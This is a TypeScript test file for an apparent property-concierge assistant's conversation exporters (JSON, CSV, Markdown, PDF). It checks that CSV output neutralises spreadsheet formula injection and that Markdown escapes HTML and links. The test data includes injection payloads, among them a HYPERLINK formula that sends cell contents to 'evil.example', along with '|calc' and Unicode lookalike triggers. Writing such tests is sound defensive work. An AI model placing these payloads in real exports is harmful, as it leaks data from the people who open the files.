import { expect, test } from 'vitest';
import { shownFacts } from '#assistants/property-concierge/facts/shown.ts';
import { parseAddress, parseSessionId } from '#machines/ids.ts';
import { factWords } from '#machines/session/fact-words.ts';
import { exportWriters } from '#src/exports/export-writers.ts';
import { csvLine } from '#src/operations/csv.ts';
import type { ExportFormat } from '#src/operations/export-port.ts';
import type { JournalEntry, SessionRow } from '#storage/port.ts';
import { sessionRow } from '../http/fixture.ts';

const session: SessionRow = {
  ...sessionRow(0),
  id: parseSessionId('01890a5d-ac96-774b-bcce-b302099a8001'),
  address: parseAddress('web:default:v_1'),
};

function entry(seq: number, text: string | null, parts: Partial<JournalEntry> = {}): JournalEntry {
  const at = 1_763_600_000_000 + seq;
  const named = { kind: 'customer.message', author: 'customer', eventId: `m${seq}`, payload: {}, delivery: null };
  return { sessionId: session.id, seq, at, text, ...named, ...parts };
}

const facts = factWords({ currency: 'EGP' }, shownFacts, 'en');

async function* listed(entries: readonly JournalEntry[]): AsyncGenerator<JournalEntry> {
  yield* entries;
}

async function written(format: ExportFormat, entries: readonly JournalEntry[]): Promise<Buffer> {
  const parts: Buffer[] = [];
  for await (const part of exportWriters[format].write(session, listed(entries), facts)) parts.push(Buffer.from(part));
  return Buffer.concat(parts);
}

/** Cells of RFC 4180. */
function parsed(csv: string): string[][] {
  const rows: string[][] = [[]];
  for (const [, quoted, plain, end] of csv.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g)) {
    rows.at(-1)?.push(quoted === undefined ? (plain ?? '') : quoted.replaceAll('""', '"'));
    if (end === '\r\n') rows.push([]);
  }
  return rows.filter((row) => row.length > 1);
}

test('JSON is one document with the session and its entries', async () => {
  const document = JSON.parse(String(await written('json', [entry(1, 'hello "you"'), entry(2, 'مرحبا')])));
  expect(document.session).toMatchObject({ id: session.id, address: 'web:default:v_1' });
  expect(document.entries.map(({ seq, text }: JournalEntry) => [seq, text])).toEqual([
    [1, 'hello "you"'],
    [2, 'مرحبا'],
  ]);
  expect(JSON.parse(String(await written('json', []))).entries).toEqual([]);
});

const FORMULAS = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '  =1',
  '\u00a0=1',
  '\ufeff=1',
  '\u200b=1',
  '＝1',
  '|calc',
  '%0A=1',
];

test.each(FORMULAS)('CSV makes text of %j', (text) => {
  const [cell = ''] = parsed(csvLine([text, null]))[0] ?? [];
  expect([cell.charAt(0), cell.replaceAll("'", '')]).toEqual(["'", text]);
});

/** As a spreadsheet reads a file that takes another separator, and knows no quotation marks. */
const cellsBetween = (csv: string, separator: RegExp): string[] => csv.split(/[\r\n]/).flatMap((line) => line.split(separator));

test.each(['hello;=1+1', 'hello\t=1+1', 'hello\n=1+1;', 'a\r\n @SUM(A1)', 'a;\u200b＝1', 'a;b;"-1+1"', '=1;=2'])(
  'CSV makes text of %j where semicolons or tabs separate cells',
  (text) => {
    const line = csvLine([1, text, 2]);
    for (const separator of [/;/, /\t/])
      for (const cell of cellsBetween(line, separator)) expect(cell).not.toMatch(/^[\s\u200b\ufeff"]*[=+\-@＝]/);
    expect(parsed(line)[0]?.[1]?.replaceAll("'", '')).toBe(text);
  },
);

test('CSV has a row an entry, and keeps commas, quotes, lines and Arabic', async () => {
  const texts = ['a, "b"\r\nc', 'مرحبا', ' spaced ', '', "it's = fine", ...FORMULAS];
  const csv = String(
    await written('csv', [...texts.map((text, index) => entry(index + 1, text)), entry(99, '=1', { author: '=1', eventId: '=1' })]),
  );
  expect(csv.startsWith('\ufeffseq,time,kind,author,text,delivery,eventId,replyTo\r\n')).toBe(true);
  const [, ...rows] = parsed(csv.slice(1));
  expect(rows).toHaveLength(texts.length + 1);
  expect(rows.slice(0, 5).map((row) => row[4])).toEqual(texts.slice(0, 5));
  expect(rows.at(-1)).toEqual(['99', '2025-11-20T00:53:20.099Z', 'customer.message', "'=1", "'=1", '', "'=1", '']);
  for (const row of rows) for (const value of row.slice(2)) expect(value).not.toMatch(/^[\s\u200b\ufeff]*[=+\-@＝]/);
});

test('Markdown shows what was written and runs none of it', async () => {
  const markdown = String(
    await written('md', [entry(1, '# <b>hi</b>\n[x](http://a)'), entry(2, null), entry(3, 'ok', { kind: 'note', author: '**Eve**' })]),
  );
  expect(markdown).toContain(String.raw`> \# \<b\>hi\<\/b\>` + '\n' + String.raw`> \[x\]\(http\:\/\/a\)`);
  expect(markdown).toContain(String.raw`**Note\, \*\*Eve\*\***`);
  expect(markdown.match(/^\*\*/gm)).toHaveLength(2);
});

test('a PDF of a long conversation is read back, with Arabic in its order', async () => {
  const { extractText, getDocumentProxy } = await import('unpdf');
  const entries = Array.from({ length: 120 }, (_, index) => entry(index + 1, index % 2 ? `message ${index}` : 'مرحبا بكم في القاهرة'));
  const pdf = await getDocumentProxy(new Uint8Array(await written('pdf', entries)));
  const { totalPages, text } = await extractText(pdf, { mergePages: true });
  expect(totalPages).toBeGreaterThan(3);
  for (const seq of [1, 61, 119]) expect(text).toContain(`message ${seq}`);
  expect(text.match(/مرحبا/g)?.length).toBe(60);
});

test('what an agent noted is in words where a person reads it', async () => {
  const event = {
    type: 'agent.update',
    at: 1,
    agent: { id: 'a', name: 'Sara' },
    entities: { budgetMax: { value: 4_500_000, was: 4_000_000 } },
  };
  const text = 'agent.update: budgetMax: 4000000 → 4500000';
  const noted = entry(1, text, { kind: 'transition', author: 'Sara', payload: { stimulus: { kind: 'event', event } } });
  expect(String(await written('md', [noted])).replaceAll(/\\|\u00a0/g, (sign) => (sign === '\u00a0' ? ' ' : ''))).toContain(
    '> agent.update: Budget, at most: 4 million EGP → 4.5 million EGP',
  );
  expect(parsed(String(await written('csv', [noted])))[1]).toContain(text);
});

test('what a message answers is in every format', async () => {
  const { extractText, getDocumentProxy } = await import('unpdf');
  const quoted = { author: 'assistant', text: 'In *Tower A*' };
  const event = { type: 'message', id: 'm2', at: 2, text: 'And the price?', replyTo: '=7', quoted };
  const entries = [
    entry(1, 'In *Tower A*', { kind: 'assistant.message', delivery: { status: 'sent', at: 1, ref: '=7' } }),
    entry(2, 'And the price?', { payload: { stimulus: { kind: 'event', event } } }),
    entry(3, '4 million', { kind: 'agent.message', payload: { effect: 'message.send', params: { text: '4 million', replyTo: 'm2' } } }),
  ];
  expect(JSON.parse(String(await written('json', entries))).entries[1].payload.stimulus.event).toMatchObject({ replyTo: '=7', quoted });
  expect(parsed(String(await written('csv', entries)).slice(1)).map((row) => row[7])).toEqual(['replyTo', '', "'=7", 'm2']);
  expect(String(await written('md', entries))).toContain(String.raw`Answers the assistant\: In \*Tower A\*` + '\n\n> And the price');
  const pdf = await getDocumentProxy(new Uint8Array(await written('pdf', entries)));
  const { text } = await extractText(pdf, { mergePages: true });
  expect(text.match(/Answers/g)).toHaveLength(1);
  expect(text).toContain('Answers the assistant: In *Tower A*');
});
